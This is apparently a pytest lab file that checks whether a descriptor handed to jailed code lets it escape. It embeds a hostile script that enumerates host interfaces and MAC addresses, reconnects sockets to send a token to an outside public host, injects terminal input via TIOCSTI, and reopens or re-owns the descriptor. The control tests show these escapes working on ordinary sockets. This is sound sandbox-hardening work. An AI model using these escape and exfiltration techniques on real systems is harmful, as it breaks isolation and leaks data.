"""What the hub gets of a stick in the network is no way out: tried from a jail, with three kinds of it.

The terminal that the gate hands out is attacked; a socket pair and the connected socket itself, handed to the
same jailed code in its place, are the controls: each attack works on one of them.
"""

import fcntl
import json
import os
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from typing import Any

import pytest

from tests.lab.conftest import Start
from tests.lab.home_network import HOME, PORT, PUBLIC, STICK, Network, Server
from tests.lab.outside import made_in
from tests.lab.stick_at_work import StickAtWork
from tests.needs import NETWORKS

pytestmark = [pytest.mark.lab, NETWORKS]

TOKEN = "hb-descriptor"
ATTACKS = """
import array, ctypes, fcntl, json, os, select, socket, struct, sys, termios, time
libc = ctypes.CDLL(None, use_errno=True)
door = socket.socket(fileno=@DOOR@)
_, (fd,), _, _ = socket.recv_fds(door, 10, 1)
os.set_blocking(fd, True)
done = {}

def tried(name):
    def run(attack):
        try:
            done[name] = attack()
        except Exception as error:
            done[name] = None
    return run

def sockaddr(host, port):
    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)

def must(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result

@tried("interfaces")
def _():
    room = array.array("B", bytes(4096))
    answer = fcntl.ioctl(fd, 0x8912, struct.pack("iL", 4096, room.buffer_info()[0]))  # SIOCGIFCONF
    size = struct.unpack("iL", answer)[0]
    rows = [bytes(room[at : at + 40]) for at in range(0, size, 40)]
    return [socket.inet_ntoa(row[20:24]) for row in rows]

@tried("cards")
def _():
    found = []
    for number in range(1, 9):
        try:
            row = fcntl.ioctl(fd, 0x8910, struct.pack("16si20x", b"", number))  # SIOCGIFNAME
        except OSError as error:
            if error.errno == 19:  # no interface of that number
                continue
            raise
        row = fcntl.ioctl(fd, 0x8927, row[:16] + bytes(24))  # SIOCGIFHWADDR
        found.append(row[18:24].hex(":"))
    return found

@tried("network")
def _():
    with socket.socket(fileno=os.dup(fd)) as mine:
        return mine.getsockopt(socket.SOL_SOCKET, 71, 8).hex()  # SO_NETNS_COOKIE

@tried("names")
def _():
    with socket.socket(fileno=os.dup(fd)) as mine:
        return [list(mine.getsockname()), list(mine.getpeername())]

@tried("descriptor")
def _():
    with socket.socket(fileno=os.dup(fd)) as mine:
        return socket.send_fds(mine, [b"take"], [os.open("/dev/null", os.O_RDWR)])

@tried("sent elsewhere")
def _():
    must(libc.connect(fd, struct.pack("=H", 0) + bytes(14), 16))
    elsewhere = sockaddr("@PUBLIC@", @PORT@)
    must(libc.sendto(fd, b"@TOKEN@-sendto", 20, 0x20000000, elsewhere, 16))  # with MSG_FASTOPEN
    return True

@tried("reconnected")
def _():
    must(libc.connect(fd, struct.pack("=H", 0) + bytes(14), 16))  # AF_UNSPEC
    elsewhere = sockaddr("@PUBLIC@", @PORT@)
    must(libc.connect(fd, elsewhere, 16))
    must(libc.send(fd, b"@TOKEN@", 13, 0))
    return True

@tried("listening")
def _():
    must(libc.connect(fd, struct.pack("=H", 0) + bytes(14), 16))
    must(libc.listen(fd, 1))
    return True

for name, number in (("typed", 0x5412), ("console", 0x541D), ("discipline", 0x5423)):
    @tried(name)
    def _():
        fcntl.ioctl(fd, number, array.array("i", [24]), True)
        return True

@tried("opened again")
def _():
    os.close(os.open(f"/proc/self/fd/{fd}", os.O_RDWR | os.O_NOCTTY))
    return True

@tried("owner changed")
def _():
    os.fchown(fd, os.getuid(), os.getgid())
    os.fchmod(fd, 0o666)
    return True

print(json.dumps(done))
"""


@pytest.fixture
def attack(start: Start) -> Callable[[int], dict[str, Any]]:
    """Hands a descriptor to hostile code in a jail, as control.sock does; returns what worked."""

    def run(descriptor: int) -> dict[str, Any]:
        ours, theirs = socket.socketpair()
        text = ATTACKS.replace("@DOOR@", str(theirs.fileno())).replace("@PUBLIC@", PUBLIC)
        text = text.replace("@PORT@", str(PORT)).replace("@TOKEN@", TOKEN)
        with ours, theirs:
            socket.send_fds(ours, [b"x"], [descriptor])
            cell = start(text, lambda plain: replace(plain, keep_fds=(theirs.fileno(),)))
            said = cell.said()
        return dict(json.loads(said))

    return run


@contextmanager
def connected(network: Network) -> Iterator[socket.socket]:
    with made_in(network.home, lambda: socket.create_connection((STICK, PORT), timeout=30)) as line:
        yield line


def card_of_home(network: Network) -> str:
    with made_in(network.home, socket.socket) as any_socket:
        return fcntl.ioctl(any_socket, 0x8927, b"wire".ljust(40, b"\0"))[18:24].hex(":")


def test_the_terminal_leads_nowhere_and_tells_nothing(
    attack: Callable[[int], dict[str, Any]], gate: StickAtWork, servers: dict[str, Server]
) -> None:
    hub = gate.open()
    heard = len(servers[PUBLIC].heard)
    worked = {name: result for name, result in attack(hub).items() if result is not None}
    os.close(hub)
    assert worked == {}
    assert len(servers[PUBLIC].heard) == heard


def test_a_connected_socket_would_be_a_way_out(
    attack: Callable[[int], dict[str, Any]], network: Network, servers: dict[str, Server]
) -> None:
    """The control of what sockets can do that are connected."""
    with connected(network) as line:
        done = attack(line.fileno())
    assert done["reconnected"]
    assert done["names"] == [[HOME, done["names"][0][1]], [STICK, PORT]]
    end_s = time.monotonic() + 30
    while TOKEN.encode() not in servers[PUBLIC].heard:
        assert time.monotonic() < end_s
        time.sleep(0.01)
    with connected(network) as line:
        assert HOME in attack(line.fileno())["interfaces"]


def test_a_socket_pair_would_show_the_house_and_take_descriptors(
    attack: Callable[[int], dict[str, Any]], network: Network
) -> None:
    """The control of what even an unconnected socket of the gate's own tells and carries."""
    pairs: list[socket.socket] = []

    def make() -> socket.socket:
        pairs.extend(socket.socketpair())
        return pairs[0]

    near = made_in(network.home, make)
    far = pairs[1]
    with near, far:
        done = attack(far.fileno())
        assert HOME in done["interfaces"]
        assert card_of_home(network) in done["cards"]
        assert done["network"] is not None
        assert done["descriptor"] == len(b"take")
        _, descriptors, _, _ = socket.recv_fds(near, 100, 4)
        assert len(descriptors) == 1
        for one in descriptors:
            os.close(one)
